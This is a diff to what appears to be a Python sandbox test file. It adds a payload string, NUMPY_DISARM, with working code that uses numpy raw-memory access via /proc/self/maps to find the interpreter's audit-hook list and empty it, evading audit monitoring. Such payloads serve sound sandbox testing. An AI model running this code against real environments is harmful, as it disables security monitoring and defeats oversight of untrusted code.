@@ -40,6 +40,57 @@ os.path.isdir = lambda path: False
 """
 
 
+# Switches the audit hook off for real, through memory: numpy's __array_interface__ accepts any
+# address, so the code finds the interpreter's list of audit hooks and empties it.
+NUMPY_DISARM = """import sys, numpy as np
+
+def _mem(address, count):
+    holder = type("Raw", (), {})()
+    holder.__array_interface__ = {"data": (address, False), "shape": (count,),
+                                  "typestr": "<u8", "version": 3}
+    return np.asarray(holder)
+
+def _disarm_with_numpy():
+    def mine(event, args):
+        pass
+    sys.addaudithook(mine)
+    ranges, data = [], []
+    with open("/proc/self/maps") as maps:
+        for line in maps:
+            parts = line.split()
+            low, high = (int(x, 16) for x in parts[0].split("-"))
+            if parts[1].startswith("r"):
+                ranges.append((low, high))
+            if parts[1].startswith("rw") and len(parts) > 5 and "python" in parts[5]:
+                data.append((low, high))
+    lows = np.array([r[0] for r in ranges], dtype=np.uint64)
+    highs = np.array([r[1] for r in ranges], dtype=np.uint64)
+    list_type, target = id(list), id(mine)
+    def readable(values):
+        index = np.searchsorted(lows, values, side="right") - 1
+        ok = index >= 0
+        ok[ok] &= values[ok] + np.uint64(32) <= highs[index[ok]]
+        return ok
+    for low, high in data:
+        words = _mem(low, (high - low) // 8).copy()
+        candidates = np.unique(words[(words % 8 == 0) & (words > 4096)])
+        candidates = candidates[readable(candidates)]
+        for pointer in candidates.tolist():
+            head = _mem(pointer, 4)
+            if int(head[1]) != list_type or int(head[2]) != 2:
+                continue
+            items = int(head[3])
+            if not readable(np.array([items], dtype=np.uint64))[0]:
+                continue
+            if int(_mem(items, 2)[1]) == target:
+                _mem(pointer, 4)[2] = 0  # ob_size: the interpreter's audit hooks, emptied
+                return True
+    return False
+
+DISARMED = _disarm_with_numpy()
+"""
+
+
 def bwrap_reason() -> str:
     return sandbox.isolation_modes()["bwrap"]
 
